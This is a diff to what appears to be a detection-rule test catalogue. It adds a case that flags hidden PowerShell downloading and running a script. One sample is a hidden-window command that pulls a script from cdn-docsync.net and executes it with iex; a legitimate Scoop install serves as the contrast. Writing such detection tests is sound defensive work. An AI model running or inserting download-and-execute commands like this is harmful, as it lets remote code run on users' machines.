@@ -106,6 +106,9 @@ const cases: CatalogueCase[] = [
     stream('C:\\Users\\alice\\Downloads\\doc.url:Zone.Identifier', '[ZoneTransfer]  ZoneId=3  HostUrl=https://files.example.net/doc.url'),
     stream('C:\\Users\\alice\\Downloads\\doc.url:Zone.Identifier', '[ZoneTransfer]  ZoneId=1')],
   // process creation
+  ['Hidden PowerShell Downloads A Script And Runs It', 'high', 'execution',
+    proc(PS, 'powershell.exe -w 1 -c "irm https://cdn-docsync.net/s/7a1f|iex"', EXPL),
+    proc(PS, 'powershell.exe -ExecutionPolicy Bypass -c "irm https://get.scoop.sh | iex"', EXPL)],
   ['Program Started From An Alternate Data Stream', 'high', 'stealth',
     proc('C:\\Users\\alice\\Documents\\report.docx:payload.exe', 'C:\\Users\\alice\\Documents\\report.docx:payload.exe', `${S32}wbem\\WMIC.exe`),
     proc('C:\\Users\\alice\\Documents\\payload.exe', 'payload.exe C:\\Users\\alice\\Documents\\report.docx:data')],
